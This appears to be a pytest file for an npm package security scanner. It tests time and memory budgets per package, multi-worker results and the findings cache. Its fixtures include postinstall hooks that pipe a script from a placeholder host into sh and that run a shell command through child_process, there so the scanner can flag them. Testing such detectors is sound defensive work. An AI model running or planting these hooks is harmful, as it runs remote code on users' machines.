"""The engine on its own: budgets per package (time, memory), findings kept when a worker is stopped,
cheap analyzers first, and a findings cache that never trusts a malformed entry."""

from __future__ import annotations

import json

from npmward.engine import INCOMPLETE_RULE, FindingCache, Job, default_analyzer_names, run_jobs
from npmward.model import Confidence, Finding, Severity
from npmward.package import sri_sha512
from npmward.settings import Settings
from registry.registry_server import build_tarball


def _job(files: dict, name="budget-test") -> Job:
    data = build_tarball({"package.json": json.dumps({"name": name, "version": "1.0.0", **files.pop("_manifest", {})}),
                          **files})
    return Job(target=name, source=f"tarball:{name}.tgz", tarball=data, integrity=sri_sha512(data))


def _run(jobs, settings, names=None):
    names = names or default_analyzer_names()
    return {index: (analysed, entries) for index, analysed, entries in run_jobs(jobs, names, settings, lambda job: {})}


def test_cheap_analyzers_run_before_the_code_analyzer():
    names = default_analyzer_names()
    assert names[-1] == "code" and names.index("install-script") < names.index("code")


def test_a_package_over_its_time_budget_keeps_its_findings_and_is_not_clean(tmp_path):
    # Far more code than can be parsed in 1 s (many files, each small enough to be read), behind an
    # install hook the cheap analyzer judges first.
    code = "".join(f"function f{i}(a) {{ return a + {i} * Math.max(a, {i}); }}\n" for i in range(12_000))
    files = {f"lib/part{n}.js": code for n in range(40)}
    job = _job({"_manifest": {"scripts": {"postinstall": "curl -s https://x.example/i.sh | sh"}}, **files})
    settings = Settings(cache_dir=tmp_path, jobs=1, package_seconds=1.0)
    analysed, entries = _run([job], settings)[0]
    rules = {f.rule for f in analysed.findings}
    assert "install-script/fetch-and-execute" in rules and INCOMPLETE_RULE in rules
    incomplete = next(f for f in analysed.findings if f.rule == INCOMPLETE_RULE)
    assert "time budget of 1 s" in incomplete.message and "code" in incomplete.details["analyzers"]
    assert entries == {}  # an incomplete analysis is never cached


def test_a_package_over_its_memory_budget_is_reported_not_lost(tmp_path):
    big = "x = [" + ",".join(["'" + "y" * 50 + "'"] * 200_000) + "];\n"
    job = _job({"index.js": big})
    settings = Settings(cache_dir=tmp_path, jobs=1, package_memory_mb=4)
    analysed, _ = _run([job], settings)[0]
    # Either the package could not be loaded at all (an error the run reports) or its analysis stopped.
    assert analysed.error or any(f.rule == INCOMPLETE_RULE for f in analysed.findings)


def test_results_come_back_for_every_job_with_several_workers(tmp_path):
    jobs = [_job({"index.js": f"module.exports = {i};\n"}, name=f"pkg-{i}") for i in range(7)]
    results = _run(jobs, Settings(cache_dir=tmp_path, jobs=2))
    assert sorted(results) == list(range(7))
    assert [results[i][0].id.name for i in range(7)] == [f"pkg-{i}" for i in range(7)]


def test_a_malformed_cache_entry_is_ignored(tmp_path):
    cache = FindingCache(Settings(cache_dir=tmp_path))
    good = Finding("code/x", Severity.LOW, Confidence.LOW, "test", "m").to_dict()
    cache.put("sha512-abc", {"code@1+d": [good], "install-script@1+d": [{"rule": 1}], "other@1+d": "nope"})
    assert cache.get("sha512-abc", ["code@1+d", "install-script@1+d", "other@1+d"]) == {"code@1+d": [good]}
    (tmp_path / "findings").mkdir(exist_ok=True)
    for path in (tmp_path / "findings").rglob("*"):
        if path.is_file():
            path.write_text("[1, 2")  # truncated
    assert cache.get("sha512-abc", ["code@1+d"]) == {}


def test_the_budget_counts_the_workers_cpu_with_wall_time_as_a_backstop():
    # A worker that gets no CPU (a loaded machine) has not spent its budget; past WALL_FACTOR times
    # the budget in wall time it has, whatever its CPU.
    import subprocess
    import time
    from types import SimpleNamespace

    from npmward.engine import WALL_FACTOR, _Worker

    idle = subprocess.Popen(["sleep", "30"])
    try:
        worker = object.__new__(_Worker)
        worker.process = SimpleNamespace(pid=idle.pid)
        assert worker.cpu_seconds() is not None
        worker.start_clock()
        time.sleep(1.2)
        assert worker.time_left(1.0) > 0.5
        assert worker.time_left(1.0 / WALL_FACTOR) <= 0
    finally:
        idle.kill()
        idle.wait()


def test_a_fully_cached_package_is_reported_without_unpacking_it(tmp_path, monkeypatch):
    # The cache keeps the package.json of the bytes it was computed from, so a warm scan reports the
    # package (same id, manifest and findings) without inflating the tarball again — unless an
    # analyzer that is not cached asks for the files.
    import npmward.engine as engine

    job = _job({"_manifest": {"scripts": {"postinstall": "node -e \"require('child_process').exec('id')\""}},
                "index.js": "module.exports = 1;\n"})
    cache = FindingCache(Settings(cache_dir=tmp_path))
    names = default_analyzer_names()
    lookup = lambda job: cache.get(job.integrity, engine.cache_keys(names, job).values())  # noqa: E731
    settings = Settings(cache_dir=tmp_path, jobs=1)
    [(_, cold, entries)] = list(run_jobs([job], names, settings, lookup))
    assert entries[engine.MANIFEST_KEY]["name"] == "budget-test"
    cache.put(cold.integrity, entries)

    loads = []
    real = engine.load_job_artifact
    monkeypatch.setattr(engine, "load_job_artifact", lambda j: loads.append(j) or real(j))
    [(_, warm, _)] = list(run_jobs([job], names, settings, lookup))
    assert loads == []
    assert (warm.id, warm.manifest) == (cold.id, cold.manifest)
    assert sorted(f.rule for f in warm.findings) == sorted(f.rule for f in cold.findings)
    assert any(f.rule.startswith("install-script/") for f in warm.findings)

    # An analyzer outside the cache that lists the files gets them, unpacked on demand.
    artifact = engine._cached_artifact(job, names, engine.cache_keys(names, job), lookup(job))
    assert artifact is not None and "index.js" in artifact.files and len(loads) == 1
